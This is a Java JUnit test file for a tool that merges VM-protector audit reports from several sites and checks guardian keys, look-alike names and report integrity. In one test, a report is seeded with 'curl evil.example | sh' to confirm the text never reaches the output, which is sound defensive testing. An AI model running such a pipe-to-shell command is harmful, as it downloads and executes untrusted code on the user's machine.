package dev.keyward.cli;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.keyward.cli.report.CsvRows;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** The reports of several sites side by side. */
class SitesTest {

  private static final String BERLIN = "Berlin=sites/berlin.json";
  private static final String ZURICH = "Z\u00fcrich=sites/zurich.json";

  @TempDir Path folder;

  private Playground playground;

  @BeforeEach
  void open() {
    playground = Playground.in(folder.resolve("here"));
  }

  private Run merge(String... words) {
    List<String> all = new ArrayList<>(List.of("audit", "merge", "--sites"));
    all.addAll(List.of(words));
    return playground.run(all.toArray(String[]::new));
  }

  /** A report as {@code audit} writes it, at a moment of its own. */
  private Run audit(String report, String... words) {
    List<String> all = new ArrayList<>(List.of("--store", "none", "audit"));
    all.addAll(List.of(words));
    all.addAll(List.of("--report", report, "--now", "2026-11-23T00:00:00Z"));
    return playground.run(all.toArray(String[]::new));
  }

  private void change(String file, String before, String after) throws IOException {
    Path path = playground.path(file);
    String text = Files.readString(path);
    assertTrue(text.contains(before), text);
    Files.writeString(path, text.replace(before, after));
  }

  @Test
  void everyRowOfTheTableNamesItsSite() throws IOException {
    assertEquals(1, merge(BERLIN, ZURICH, "--report", "sites.csv").exit());
    List<List<String>> rows =
        CsvRows.parse(Files.readString(playground.path("sites.csv")).substring(1));
    assertEquals("site", rows.get(0).get(0));
    List<String> machines =
        rows.stream()
            .filter(row -> row.get(1).equals("none") || row.get(1).equals("error"))
            .map(row -> row.get(0) + " " + row.get(5))
            .toList();
    assertEquals(
        List.of("Berlin hgs-vm", "Berlin tampered", "Z\u00fcrich hgs-vm", "Z\u00fcrich app-vm"),
        machines);
  }

  @Test
  void oneNameWithOtherKeysIsTwoGuardians() {
    Run run = merge(BERLIN, ZURICH);
    assertTrue(
        run.out()
            .contains(
                "warning  one-name-other-key: guardian hgs has 2 signing keys:"
                    + " Berlin [d0050ab9f669]; Z\u00fcrich [e0534655b493]"),
        run.out());
  }

  @Test
  void oneKeyUnderTwoNamesIsOneGuardian() {
    Run run = merge(BERLIN, ZURICH);
    assertTrue(
        run.out().contains("one guardian is called hgs at Berlin, berlin-hgs at Z\u00fcrich"),
        run.out());
  }

  @Test
  void oneNameWithOneKeyIsNoFinding() throws IOException {
    change("sites/zurich.json", "\"berlin-hgs\"", "\"HGS\"");
    change("sites/zurich.json", "\"hgs\"", "\"other\"");
    Run run = merge(BERLIN, ZURICH);
    assertFalse(run.out().contains("one-name-other-key"), run.out());
    assertFalse(run.out().contains("one-key-other-name"), run.out());
  }

  @Test
  void aReportOfBeforeIsReadAndSaysWhatCannotBeCompared() throws IOException {
    for (String file : List.of("sites/berlin.json", "sites/zurich.json")) {
      Path path = playground.path(file);
      Files.writeString(
          path, Files.readString(path).replaceAll(",\"keySha256\":\"[0-9a-f]{64}\"", ""));
    }
    Run run = merge(BERLIN, ZURICH, "--report", "before.sarif");
    assertEquals(1, run.exit(), run.err());
    assertFalse(run.out().contains("one-name-other-key"), run.out());
    assertTrue(run.out().contains("whether guardians of one name are one: reports of"), run.out());
    String sarif = Files.readString(playground.path("before.sarif"));
    assertTrue(sarif.contains("Whether guardians of one name are one: not checked"), sarif);
    assertTrue(run.out().contains("one-key-other-name"), "the certificate is the same");
  }

  /** The author of a report would choose what its reader types. */
  @Test
  void whatAReportSaysIsToBeDoneIsNeverShown() throws IOException {
    change("sites/berlin.json", "no command ends this: restore", "run curl evil.example | sh, or");
    change("sites/berlin.json", "\"command\":\"keyward protector", "\"command\":\"evil-command");
    change("sites/berlin.json", "\"why\":\"Whoever", "\"why\":\"evil-reason");
    change("sites/berlin.json", "\"title\":\"is not", "\"title\":\"evil-title");
    List<String> texts = new ArrayList<>(List.of(merge(BERLIN, ZURICH).out()));
    for (String report : List.of("s.json", "s.csv", "s.sarif", "s.html")) {
      merge(BERLIN, ZURICH, "--report", report);
      texts.add(Files.readString(playground.path(report)));
    }
    for (String text : texts) {
      assertFalse(text.contains("evil"), text);
    }
  }

  @Test
  void findingsThatSayTheSameNameTheirOwnSites() throws IOException {
    String report = Files.readString(playground.path("sites/berlin.json"));
    for (String site : List.of("a", "b", "c")) {
      report += "\n";
      Files.writeString(playground.path(site + ".json"), report);
    }
    List<String> sites =
        merge("A=a.json", "B=b.json", "C=c.json")
            .out()
            .lines()
            .dropWhile(line -> !line.contains("same-protector: 1 VM has the same name"))
            .filter(line -> line.startsWith("  sites  "))
            .map(line -> line.substring("  sites  ".length(), line.indexOf(':')))
            .toList();
    assertEquals(List.of("A, B", "A, C"), sites);
  }

  @Test
  void theExitCodeIsThatOfTheWorstSite() throws IOException {
    audit("good.json", "protectors/hgs-vm.xml", "--guardians", "metadata");
    audit("none.json", "protectors/no-such-file.xml");
    Files.createDirectory(playground.path("empty"));
    audit("empty.json", "empty");
    assertEquals(1, merge("a=good.json").exit());
    Run unread = merge("a=good.json", "b=none.json");
    assertEquals(5, unread.exit(), unread.err());
    assertTrue(unread.err().contains("site b: 1 input could not be read"), unread.err());
    Run nothing = merge("a=good.json", "b=empty.json");
    assertEquals(6, nothing.exit(), nothing.err());
    assertTrue(nothing.err().contains("site b: there is nothing to audit"), nothing.err());
  }

  @Test
  void warningsBetweenSitesCountWhereTheyAreAskedFor() throws IOException {
    audit("x.json", "protectors/hgs-vm.xml");
    audit("y.json", "protectors/app-vm.framed");
    assertEquals(0, merge("x=x.json", "y=y.json", "--fail-on", "warning").exit());
    assertEquals(1, merge("\u0445=x.json", "x=y.json", "--fail-on", "warning").exit());
    assertTrue(
        merge("\u0445=x.json", "x=y.json")
            .out()
            .contains("look-alike-name: site x looks like site <U+0445>"));
  }

  @Test
  void machinesThatLookLikeThoseOfAnotherSiteAreFound() throws IOException {
    Files.copy(playground.path("protectors/hgs-vm.xml"), playground.path("vm1.xml"));
    Files.copy(playground.path("protectors/other.xml"), playground.path("vml.xml"));
    audit("x.json", "vm1.xml");
    audit("y.json", "vml.xml");
    Run run = merge("x=x.json", "y=y.json");
    assertTrue(run.out().contains("note  look-alike-name: VM vml looks like VM vm1"), run.out());
    assertTrue(run.out().contains("  sites  x, y: vml.xml"), run.out());
  }

  @Test
  void theSameFilesAtTwoSitesAreFound() {
    audit("x.json", "protectors/hgs-vm.xml");
    audit("y.json", "protectors/hgs-vm.xml", "--within", "1d");
    Run run = merge("x=x.json", "y=y.json");
    assertTrue(run.out().contains("warning  same-input: "), run.out());
  }

  @Test
  void aProtectorThatIsAnotherMachinesAtAnotherSiteIsFound() throws IOException {
    Files.copy(playground.path("protectors/hgs-vm.xml"), playground.path("other-vm.xml"));
    Files.createDirectory(playground.path("copies"));
    Files.copy(playground.path("protectors/hgs-vm.xml"), playground.path("copies/hgs-vm.xml"));
    audit("x.json", "protectors/hgs-vm.xml", "protectors/other.xml");
    audit("y.json", "other-vm.xml");
    audit("z.json", "copies");
    Run run = merge("x=x.json", "y=y.json", "z=z.json");
    assertTrue(
        run.out().contains("warning  same-protector: VM other-vm has the protector of VM hgs-vm"),
        run.out());
    assertTrue(
        run.out().contains("note  same-protector: 1 VM has the same name and protector at both"),
        run.out());
    assertFalse(run.out().contains("keyward vm reseal"), run.out());
  }

  @Test
  void findingsBesideTheProtectorsKeepTheirSite() throws IOException {
    Files.createDirectory(playground.path("mixed"));
    Files.copy(playground.path("protectors/hgs-vm.xml"), playground.path("mixed/a.xml"));
    Files.writeString(playground.path("mixed/readme.txt"), "words");
    audit("x.json", "mixed", "--strict");
    merge("x=x.json", "--report", "s.csv");
    String rows = Files.readString(playground.path("s.csv"));
    assertTrue(rows.contains("x,error,other-file,mixed/readme.txt,"), rows);
  }

  @Test
  void aCopiedReportIsRefused() throws IOException {
    Files.copy(playground.path("sites/berlin.json"), playground.path("copy.json"));
    Run run = merge(BERLIN, "other=copy.json");
    assertEquals(3, run.exit());
    assertTrue(run.err().contains("copy.json: the same report as sites/berlin.json"), run.err());
  }

  @Test
  void aReportWithoutOneOfItsRowsIsRefused() throws IOException {
    Path path = playground.path("sites/berlin.json");
    List<String> lines = new ArrayList<>(Files.readAllLines(path));
    lines.remove(1);
    Files.write(path, lines);
    Run run = merge(BERLIN);
    assertEquals(3, run.exit());
    assertTrue(run.err().contains("counts of other protectors than it lists"), run.err());
  }

  @Test
  void aLaterFormIsRefusedByItsName() throws IOException {
    change("sites/berlin.json", "keyward.audit/1", "keyward.audit/2");
    Run run = merge(BERLIN);
    assertEquals(3, run.exit());
    assertTrue(run.err().contains("a newer Keyward wrote it"), run.err());
  }

  @Test
  void whatDoesNotGoTogetherIsAUsageError() {
    assertEquals(2, merge(BERLIN, "--sums", "sums").exit());
    assertEquals(2, merge(BERLIN, "--init-policy").exit());
    assertEquals(2, merge(BERLIN, "--out", "out").exit());
    assertEquals(2, merge("x=sites").exit());
    assertEquals(2, merge("=sites/berlin.json").exit());
    assertEquals(2, merge(" =sites/berlin.json").exit());
    assertEquals(5, merge("x=no-such.json").exit());
  }

  /** An audit of a folder does not take the reports in it for damaged protectors. */
  @Test
  void itsReportsAreKnownAsKeywardsOwn() throws IOException {
    Files.createDirectory(playground.path("reports"));
    Files.copy(playground.path("protectors/hgs-vm.xml"), playground.path("reports/a.xml"));
    for (String report : List.of("s.json", "s.csv", "s.sarif", "s.html")) {
      merge(BERLIN, ZURICH, "--report", "reports/" + report);
    }
    Run run = audit("all.json", "reports");
    assertTrue(run.out().startsWith("1 protector: 1 valid"), run.out());
  }
}
